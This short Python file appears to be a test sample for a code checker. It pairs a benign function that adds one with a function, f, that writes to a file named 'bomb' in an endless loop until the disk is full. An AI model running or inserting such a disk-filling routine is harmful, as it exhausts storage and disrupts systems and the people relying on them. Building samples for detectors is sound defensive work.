"""Writes one file until the disk is full. Bounded: an error of this function."""


def f(x):
    with open("bomb", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def honest(x):
    return x + 1
